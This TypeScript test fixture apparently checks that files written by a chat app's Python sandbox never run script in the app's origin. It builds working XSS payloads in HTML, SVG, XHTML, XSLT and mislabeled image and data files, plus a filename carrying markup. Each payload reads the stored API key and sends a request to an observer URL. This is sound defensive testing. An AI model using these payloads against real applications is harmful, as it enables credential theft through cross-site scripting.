/**
 * Files the code writes that would run script if a browser rendered them in
 * the app's origin: each one, if it ever runs, copies the API key from
 * localStorage into `ran-<name>` and calls the observer. The test opens every
 * download link every way a person would, then checks neither happened.
 */

/** JavaScript that reports it ran, as `ran-<tag>` in localStorage and a request to the observer. */
export function marker(tag: string, observer: string): string {
  return `localStorage.setItem('ran-${tag}', String(localStorage.getItem('gemini-chat.api-key'))); document.title = 'RAN'; fetch('${observer}/ran-${tag}').catch(() => 0)`
}

/** A name that is markup itself: it must stay text wherever the page shows it. */
export const HOSTILE_NAME = `x"><img src=q onerror="localStorage.setItem('ran-name',1)">.html`

/** What each written file is, by name. */
export function hostileFiles(observer: string): Record<string, string> {
  const js = (tag: string) => marker(tag, observer)
  const xsl =
    '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
    `<xsl:template match="/"><html><body><script>${js('xslt')}</script></body></html></xsl:template></xsl:stylesheet>`
  return {
    'report.html': `<!doctype html><html><body><h1>Quarterly report</h1><script>${js('html')}</script><img src="x" onerror="${js('html-img')}"></body></html>`,
    'chart.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="${js('svg-onload')}"><script>${js('svg')}</script><text x="4" y="24">chart</text></svg>`,
    'page.xhtml': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${js('xhtml')}</script></body></html>`,
    'data.xml': '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><data/>',
    'style.xsl': xsl,
    'inline-xslt.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl;base64,${Buffer.from(xsl).toString('base64')}"?><data/>`,
    'app.js': js('js'),
    'notes.txt': `<!doctype html><script>${js('txt')}</script>`,
    'plot.png': `<svg xmlns="http://www.w3.org/2000/svg" onload="${js('png-svg')}"/>`,
    'photo.jpg': `<!doctype html><script>${js('jpg-html')}</script>`,
    'table.csv': `<!doctype html><script>${js('csv-html')}</script>`,
    'data.json': `<!doctype html><script>${js('json-html')}</script>`,
    README: `<!doctype html><script>${js('no-extension')}</script>`,
    [HOSTILE_NAME]: '<!doctype html><p>name</p>',
  }
}

/** Python that writes the files, shows one real PNG, and smuggles two fake "images" past display(). */
export function writeFilesCode(observer: string): string {
  return [
    'import base64, json, sandbox_display',
    `files = json.loads(${JSON.stringify(JSON.stringify(hostileFiles(observer)))})`,
    'for name, text in files.items():',
    '    open(name, "w").write(text)',
    'display(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="))',
    `sandbox_display._images.append(("image/svg+xml", ${JSON.stringify(`<svg xmlns="http://www.w3.org/2000/svg" onload="${marker('image-svg', observer)}"/>`)}.encode()))`,
    `sandbox_display._images.append(("image/png", ${JSON.stringify(`<!doctype html><script>${marker('image-html', observer)}</script>`)}.encode()))`,
    'print(len(files), "files written")',
  ].join('\n')
}
